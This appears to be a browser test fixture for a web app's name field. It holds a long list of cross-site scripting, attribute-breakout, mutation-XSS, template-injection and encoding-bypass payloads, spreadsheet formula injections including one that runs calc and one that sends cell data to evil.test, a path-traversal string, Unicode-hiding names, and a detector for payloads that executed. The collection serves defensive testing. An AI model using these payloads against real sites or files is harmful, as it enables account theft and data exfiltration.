// What somebody types who wants a page, a mail or a spreadsheet to run it. Each sets `__xss` where it runs, and most
// mark the element they make with `data-xss`.

/** At most 200 characters each, the limit of a name; each is its own clean form. */
export const payloads = [
  // Elements that run by themselves.
  '<script data-xss>__xss=1</script>',
  '<ScRiPt data-xss>__xss=1</sCrIpT>',
  '<script/data-xss src="data:text/javascript,__xss=1"></script>',
  '<script data-xss type=module>__xss=1</script>',
  '<img src="x" onerror="__xss=1" data-xss>',
  '<img src=x onerror=__xss=1 data-xss>',
  '<img/src=x/onerror=__xss=1/data-xss>',
  '<IMG """><SCRIPT data-xss>__xss=1</SCRIPT>">',
  '<image src=x onerror=__xss=1 data-xss>',
  '<svg onload=__xss=1 data-xss>',
  '<svg/onload=__xss=1 data-xss>',
  '<svg data-xss><script>__xss=1</script></svg>',
  '<svg data-xss><animate onbegin=__xss=1 attributeName=x dur=1s>',
  '<svg data-xss><a xlink:href="javascript:__xss=1"><text y=20>click</text></a></svg>',
  '<iframe src="javascript:parent.__xss=1" data-xss></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>" data-xss></iframe>',
  '<object data="javascript:__xss=1" data-xss></object>',
  '<embed src="javascript:__xss=1" data-xss>',
  '<details open ontoggle=__xss=1 data-xss><summary>more</summary></details>',
  '<body onload=__xss=1 data-xss>',
  '<input autofocus onfocus=__xss=1 data-xss>',
  '<select autofocus onfocus=__xss=1 data-xss></select>',
  '<video data-xss><source onerror=__xss=1></video>',
  '<audio src=x onerror=__xss=1 data-xss>',
  '<marquee onstart=__xss=1 data-xss>hello</marquee>',
  '<style data-xss>@keyframes x{}*{animation:x}</style><b style="animation-name:x" onanimationstart="__xss=1">',
  '<link rel=stylesheet href="data:text/css,*{display:none}" data-xss>',
  '<meta http-equiv=refresh content="0;url=javascript:__xss=1" data-xss>',
  '<base href="https://evil.test/" data-xss>',
  '<dialog open data-xss>Your session has ended</dialog>',
  '<form action="https://evil.test/" data-xss><input name=password></form>',
  '<math data-xss><mtext><script>__xss=1</script></mtext></math>',
  '<isindex type=image src=1 onerror=__xss=1 data-xss>',
  '<x onpointerover=__xss=1 tabindex=1 autofocus onfocus=__xss=1 data-xss>x</x>',
  // Out of an attribute.
  '" onfocus="__xss=1" autofocus data-xss="',
  "' onfocus='__xss=1' autofocus data-xss='",
  '" onmouseover=__xss=1 data-xss x="',
  '"><img src=x onerror=__xss=1 data-xss>',
  "'><img src=x onerror=__xss=1 data-xss>",
  '`><img src=x onerror=__xss=1 data-xss>',
  '"/><svg/onload=__xss=1 data-xss>',
  '\\"><svg onload=__xss=1 data-xss>',
  '" style="position:fixed;inset:0" data-xss="',
  // Out of an element that holds text only, a comment, a CDATA section, a script.
  '</title><script data-xss>__xss=1</script>',
  '</title><img src=x onerror=__xss=1 data-xss>',
  '</title><meta http-equiv=refresh content="9;url=https://evil.test/" data-xss>',
  '</script><script data-xss>__xss=1</script>',
  '</script><!--<script data-xss>__xss=1//-->',
  '</textarea><script data-xss>__xss=1</script>',
  '</style><script data-xss>__xss=1</script>',
  '</noscript><img src=x onerror=__xss=1 data-xss>',
  '</bdi></span></th></tr></table><img src=x onerror=__xss=1 data-xss>',
  '<!--',
  '--><script data-xss>__xss=1</script>',
  '--!><script data-xss>__xss=1</script>',
  '<![CDATA[<script data-xss>__xss=1</script>]]>',
  '<?php echo 1 ?><?xml version="1.0"?>',
  // Out of a string in a script.
  "';__xss=1;//",
  '";__xss=1;//',
  '\\u003cscript data-xss\\u003e__xss=1\\u003c/script\\u003e',
  '\\x3cscript data-xss\\x3e__xss=1\\x3c/script\\x3e',
  '${__xss=1}',
  // Templates.
  '{{constructor.constructor("__xss=1")()}}',
  '{{ 7 * 7 }}{% if true %}x{% endif %}{# x #}',
  '<%= 7 * 7 %>#{7*7}*{7*7}',
  // Addresses.
  'javascript:__xss=1',
  'JaVaScRiPt:__xss=1//',
  '<a href="javascript:__xss=1" data-xss>click</a>',
  '<a href="java&#10;script:__xss=1" data-xss>click</a>',
  '[click](javascript:__xss=1)',
  'data:text/html,<script data-xss>__xss=1</script>',
  'vbscript:msgbox(1)',
  '//evil.test/x.js',
  'https://evil.test/?a=1&copy=2',
  // Written otherwise.
  '&lt;script data-xss&gt;__xss=1&lt;/script&gt;',
  '&#60;script data-xss&#62;__xss=1&#60;/script&#62;',
  '&#x3C;img src=x onerror=__xss=1 data-xss&#x3E;',
  '&amp;lt;img src=x onerror=__xss=1&amp;gt;',
  '%3Cscript data-xss%3E__xss=1%3C/script%3E',
  '%253Cscript%253E__xss=1%253C/script%253E',
  '+ADw-script data-xss+AD4-__xss=1+ADw-/script+AD4-',
  '＜script data-xss＞__xss=1＜/script＞',
  '‹img src=x onerror=__xss=1 data-xss›',
  'ʺ onfocus=ʺ__xss=1ʺ data-xss',
  '<ſcript data-xss>__xss=1</ſcript>',
  '<scr<script>ipt data-xss>__xss=1</scr</script>ipt>',
  '<<script data-xss>__xss=1//<</script>',
  '<script data-xss>__xss=1',
  '<img src=x onerror=__xss=1 data-xss',
  // What parsing, writing and parsing again brings to life.
  '<noscript><p title="</noscript><img src=x onerror=__xss=1 data-xss>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=__xss=1 data-xss>">',
  '<svg></p><style><a id="</style><img src=x onerror=__xss=1 data-xss>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss=1 data-xss>',
  '<template><script data-xss>__xss=1</script></template>',
  '<listing><img src=x onerror=__xss=1 data-xss></listing>',
  '<form id=x></form><input form=x name=cookie><img name=body data-xss>',
  // Nothing, and what looks like it.
  'null',
  'undefined',
  'NaN',
  '%00<script data-xss>__xss=1</script>',
  '\\0<img src=x onerror=__xss=1 data-xss>',
  '%s%d%n{0}{name}',
  '../../../etc/passwd',
  // What a spreadsheet would run, and what breaks its lines.
  '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("https://evil.test/?"&A1,"click")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '＝1+1',
  'a","b","=1+1',
  // Written from right to left, with marks, outside the first plane.
  'محمد <b data-xss>رضا</b>',
  'שלום "><img src=x onerror=__xss=1 data-xss>',
  'Z̷̛̯͘a̶l̴g̵o̶ <b data-xss>x</b>',
  '👩‍💻 <i data-xss>x</i> 𝓐',
];

/** Names with characters that hide or reorder others, and what is kept of each. */
export const hidden = [
  ['Ana \u202eamiL\u202c', 'Ana amiL'],
  ['\u2066Bea\u2069 \u2067Bo\u2069 \u2068By\u2069', 'Bea Bo By'],
  ['\u202aCleo\u202b \u202dCox', 'Cleo Cox'],
  ['Dan\u200ba\u2060 D\ufeffee', 'Dana Dee'],
  ['\u200eEva\u200f E\u061cbb', 'Eva Ebb'],
  ['Fay\u0000 F\u0008o\u001bx\u007f', 'Fay Fox'],
  ['Gia\tG\u2028am\r\nma', 'Gia G am ma'],
  ['Hal \u{e0041}\u{e0042}H\u{e007f}all', 'Hal Hall'],
  ['Ida\u2061\u2064 I\ufff9n\ufffbn', 'Ida Inn'],
  ['<scr\u200bipt>__xss=1</scr\u200bipt>', '<script>__xss=1</script>'],
];

/** Elements and attributes that are on no page of ours: what a payload would have made. */
const made = [
  '[data-xss]', 'iframe', 'object', 'embed', 'base', 'math', 'marquee', 'video', 'audio', 'listing', 'noscript', 'image',
  'meta[http-equiv]', 'img[src="x"]', 'a[href*="evil.test"]', 'form[action*="evil.test"]',
  'a[href^="javascript:" i]', 'a[href^="data:" i]', 'a[href^="vbscript:" i]', 'template script', 'body style',
].join();

/** Answers what of the payloads has come to life on a page: nothing, where all is well. */
export const alive = (page) => page.evaluate((made) => {
  const handler = (element) => element.getAttributeNames().some((name) => name.startsWith('on'));
  const found = [...document.querySelectorAll('*')].filter((element) => element.matches(made) || handler(element));
  const run = globalThis.__xss === undefined ? [] : ['a script ran'];
  return [...run, ...found.map((element) => element.outerHTML.slice(0, 200))];
}, made);
